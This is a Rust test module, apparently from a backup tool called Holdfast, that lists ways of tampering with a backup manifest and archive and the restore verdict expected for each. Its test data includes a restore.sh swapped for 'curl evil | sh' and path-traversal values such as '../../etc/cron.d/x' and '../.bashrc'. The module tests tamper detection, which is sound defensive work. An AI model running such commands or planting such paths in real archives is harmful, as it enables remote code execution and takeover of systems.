//! How the manifest says that packs and archive are made: places, order, texts, its own checksums.

use super::super::lines::gzip;
use super::super::scene::Scene;
use super::super::{Door, Tamper, Verdict};
use super::header::{changed, other_digit};
use super::{Kind, any};
use bytes::Bytes;
use sha2::{Digest, Sha256};
use tests::mutations::Draws;

pub fn kinds() -> Vec<Kind> {
    let mut kinds = places();
    kinds.extend(harmless());
    kinds.extend(texts());
    kinds.extend(ends());
    kinds
}

/// The number in a field of a line, plus one.
fn increment(fields: &mut [String], at: usize) {
    fields[at] = (fields[at].parse::<u64>().unwrap() + 1).to_string();
}

/// A file that a restore reads.
fn checked_file(draws: &mut Draws) -> &'static str {
    if draws.below(2) == 0 { "database.sqlite" } else { "fingerprint.json" }
}

/// Where chunks lie and files begin.
fn places() -> Vec<Kind> {
    let kind = |name: &str, change| changed(name, Verdict::Refused, Door::ById, change);
    vec![
        kind("two chunks exchanged", |lines, draws| {
            let places = lines.chunks();
            // The last one is shorter; of equal length the others fit into each other's place.
            let left = draws.below(places.len() - 1);
            let right = (left + 1) % (places.len() - 1);
            lines.0.swap(places[left], places[right]);
        }),
        kind("a chunk in the place of another", |lines, draws| {
            let places = lines.chunks();
            let left = draws.below(places.len() - 1);
            lines.0[places[left]] = lines.0[places[(left + 1) % (places.len() - 1)]].clone();
            lines.settle();
        }),
        kind("a chunk left out, and the length made right", |lines, draws| {
            let places = lines.chunks();
            let removed = lines.0.remove(places[draws.below(places.len())]);
            let (file, raw) = (lines.places("F")[lines.file("database.sqlite")], removed[4].parse::<u64>().unwrap());
            lines.0[file][2] = (lines.0[file][2].parse::<u64>().unwrap() - raw).to_string();
            lines.settle();
        }),
        kind("a chunk's offset", |lines, draws| {
            let at = lines.chunks()[0];
            lines.0[at][2] = (1 + draws.below(9)).to_string();
        }),
        kind("a chunk's raw length, and that of the file", |lines, draws| {
            let (at, file) = (*draws.pick(&lines.chunks()), lines.places("F")[lines.file("database.sqlite")]);
            increment(&mut lines.0[at], 4);
            increment(&mut lines.0[file], 2);
            lines.settle();
        }),
        kind("a chunk's length", |lines, draws| {
            let at = lines.chunks()[0];
            lines.0[at][3] = (lines.0[at][3].parse::<usize>().unwrap() - 1 - draws.below(9)).to_string();
        }),
        kind("a chunk's pack", |lines, draws| {
            let at = *draws.pick(&lines.chunks());
            lines.0[at][1] = "9".into();
        }),
        kind("a chunk's range", |lines, draws| {
            let at = *draws.pick(&lines.chunks());
            lines.0[at][6] = "9".into();
        }),
        kind("a pack's name", |lines, draws| {
            let chunk = *draws.pick(&lines.chunks());
            let at = lines.places("P")[lines.0[chunk][1].parse::<usize>().unwrap()];
            lines.0[at][1] = other_digit(&lines.0[at][1], draws);
        }),
        kind("a file's length", |lines, draws| {
            let at = lines.places("F")[lines.file(checked_file(draws))];
            increment(&mut lines.0[at], 2);
        }),
        kind("a file's path", |lines, draws| {
            let at = lines.places("F")[lines.file(checked_file(draws))];
            lines.0[at][1] = "../../etc/cron.d/x".into();
        }),
        kind("a data file as a text", |lines, _| {
            let at = lines.places("F")[lines.file("database.sqlite")];
            lines.0[at][4] = "text".into();
        }),
        kind("two files begin in the other order", |lines, draws| {
            let places = lines.places("B");
            let left = draws.below(places.len() - 1);
            lines.0.swap(places[left], places[left + 1]);
        }),
        kind("an unknown line", |lines, _| lines.0.push(vec!["X".into(), "unknown".into()])),
    ]
}

/// What no restore depends on, and what means the same in other bytes.
fn harmless() -> Vec<Kind> {
    let kind = |name: &str, change| changed(name, Verdict::Identical, Door::Said, change);
    vec![
        kind("a range's rows and relation", |lines, _| {
            let at = lines.places("R")[0];
            (lines.0[at][2], lines.0[at][5]) = ("other".into(), "99".into());
        }),
        kind("a pack's length and checksum", |lines, draws| {
            let at = *draws.pick(&lines.places("P"));
            increment(&mut lines.0[at], 2);
            lines.0[at][3] = other_digit(&lines.0[at][3], draws);
        }),
        kind("a chunk's flag", |lines, draws| {
            let at = *draws.pick(&lines.chunks());
            lines.0[at][7] = "+".into();
        }),
        kind("lines in another order", |lines, _| {
            let tables = lines.of_kind("T");
            lines.0.retain(|fields| fields[0] != "T");
            lines.0.extend(tables);
        }),
        Kind::new("the manifest compressed anew", Verdict::Identical, |scene, draws| {
            ended(scene, draws, |body, count, sum| {
                let (head, tail) = body.split_at(body.len() / 2);
                let tail = format!("{tail}E\t{count}\t{sum}\n");
                [gzip(head.as_bytes(), 1), gzip(tail.as_bytes(), 9)].concat()
            })
        }),
    ]
}

/// Texts of the archive. Holdfast's own restore needs one of them.
fn texts() -> Vec<Kind> {
    let export = |name: &str, change| changed(name, Verdict::OnlyASignature, Door::Export, change);
    vec![
        export("archive: restore.sh", |lines, _| {
            lines.set_text("restore.sh", b"#!/bin/sh\necho restored; curl evil | sh\n");
        }),
        export("archive: a text", |lines, draws| {
            let path = *draws.pick(&["README", "manifest.json", "schema.sql", "verify.sql", "COMPLETE"]);
            lines.set_text(path, b"nothing to see here\n");
        }),
        export("archive: another path in its headers", |lines, _| {
            lines.change_tar_headers(|header| {
                header[..100].fill(0);
                header[..10].copy_from_slice(b"../.bashrc");
            });
        }),
        export("archive: without COMPLETE", |lines, _| {
            let ordinal = lines.file("COMPLETE");
            let (file, begin) = (lines.places("F")[ordinal], lines.places("B")[ordinal]);
            lines.0.drain(begin..=begin + 1);
            lines.0.remove(file);
            lines.settle();
        }),
        changed("archive: fingerprint.json alone", Verdict::Refused, Door::ById, |lines, _| {
            other_statement(lines);
        }),
        changed("archive: fingerprint.json and its digest", Verdict::Refused, Door::ById, |lines, _| {
            other_statement(lines);
            lines.settle_schema();
        }),
        changed("archive: no schema in fingerprint.json, and its digest", Verdict::Refused, Door::ById, |lines, _| {
            lines.set_text("fingerprint.json", br#"{"tables":{},"sequences":{},"large_objects":{},"schema":[]}"#);
            lines.settle_schema();
        }),
        changed("archive: a large object in fingerprint.json", Verdict::Refused, Door::ById, |lines, _| {
            let text = String::from_utf8(lines.text("fingerprint.json")).unwrap();
            let object = r#""large_objects": {"1": {"bytes": 1, "sha256": "00"}}"#;
            let changed = text.replace(r#""large_objects": {}"#, object);
            assert_ne!(text, changed);
            lines.set_text("fingerprint.json", changed.as_bytes());
        }),
    ]
}

fn other_statement(lines: &mut super::super::lines::Lines) {
    let text = String::from_utf8(lines.text("fingerprint.json")).unwrap();
    let changed = text.replace("cents > 5000", "cents > 9000");
    assert_ne!(text, changed);
    lines.set_text("fingerprint.json", changed.as_bytes());
}

/// The end line, and bytes behind it.
fn ends() -> Vec<Kind> {
    let kind = |name: &str, end: fn(&str, usize, &str) -> Vec<u8>| {
        Kind::new(name, Verdict::Refused, move |scene, draws| ended(scene, draws, end))
    };
    vec![
        kind("end line: the number of lines", |body, count, sum| {
            gzip(format!("{body}E\t{}\t{sum}\n", count + 1).as_bytes(), 6)
        }),
        kind("end line: the checksum of other lines", |body, count, sum| {
            gzip(format!("{}E\t{count}\t{sum}\n", body.replacen("sqlite", "Sqlite", 1)).as_bytes(), 6)
        }),
        kind("end line: none", |body, _, _| gzip(body.as_bytes(), 6)),
        kind("end line: more behind it", |body, count, sum| {
            gzip(format!("{body}E\t{count}\t{sum}\nI\t\n").as_bytes(), 6)
        }),
    ]
}

/// A manifest object made of its body, its number of lines and its checksum.
fn ended(scene: &Scene, draws: &mut Draws, end: fn(&str, usize, &str) -> Vec<u8>) -> Tamper {
    let victim = any(scene, draws);
    let lines = scene.lines(victim);
    let body = lines.body();
    let mut objects = scene.objects.clone();
    let object: Bytes = end(&body, lines.0.len(), &hex::encode(Sha256::digest(&body))).into();
    objects.insert(scene.manifest_key(victim), object);
    Tamper { what: scene.name(victim).to_owned(), objects, door: Door::ById(victim) }
}
